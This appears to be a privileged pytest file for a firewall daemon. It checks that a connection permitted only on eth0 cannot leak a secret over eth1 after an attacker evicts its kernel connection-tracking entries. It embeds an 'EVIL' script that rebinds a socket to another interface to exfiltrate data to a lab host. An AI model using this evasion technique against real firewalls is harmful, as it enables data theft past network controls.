"""A connection that a rule with `iface=` allowed does not go on by another interface, even when its entries in the
kernel's tables were evicted, as by an attacker who fills them.
"""

import subprocess
import sys

import pytest

from tests.evasion.stage import ATTACKER, PYTHON
from tests.evasion.test_handshake import FORGET
from tests.lab.daemon import Daemon
from tests.lab.lab import Lab
from tests.lab.patience import read_line, read_rest, read_until, write_line
from tests.lab.test_interface import END, SNIFF
from tests.lab.test_interface import daemon as daemon
from tests.lab.test_interface import lab as lab  # with a second interface
from tests.lab.world import HOST4, HOST6, WORLD4, WORLD6

pytestmark = [pytest.mark.privileged, pytest.mark.slow]

SECRET = "secret that was not to leave there"
# Connects and prints its local port. After a line on stdin it sends by the other interface, and then `no more`.
EVIL = """
import socket, sys
used = socket.create_connection((sys.argv[1], 80))
used.send(b"GET / HTTP/1.1\\r\\n")
print(used.getsockname()[1], flush=True)
sys.stdin.readline()
used.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth1")
used.send(sys.argv[2].encode())
last = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
last.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth1")
last.sendto(b"no more", (sys.argv[3], 9))
sys.stdin.readline()
"""


@pytest.mark.parametrize(("local", "remote"), [(HOST4, WORLD4), (HOST6, WORLD6)])
def test_a_connection_that_goes_on_by_another_interface(lab: Lab, daemon: Daemon, local: str, remote: str) -> None:
    daemon.edit_rules(f"{END}allow iface=eth0 - - -\ndeny - - -\n")
    sniffer = lab.spawn_world([PYTHON, "-c", SNIFF, SECRET])
    assert read_until(sniffer, len) == ["ready\n"]
    evil = lab.spawn([PYTHON, "-c", EVIL, remote, SECRET, WORLD4], user=ATTACKER, stdin=subprocess.PIPE)
    port = read_line(evil).strip()
    forgotten = lab.run_outside([sys.executable, "-c", FORGET, local, remote, port, "80", "sockets"])
    assert forgotten.returncode == 0, forgotten.stderr
    write_line(evil)
    assert read_rest(sniffer) == ""
    evil.communicate("\n")
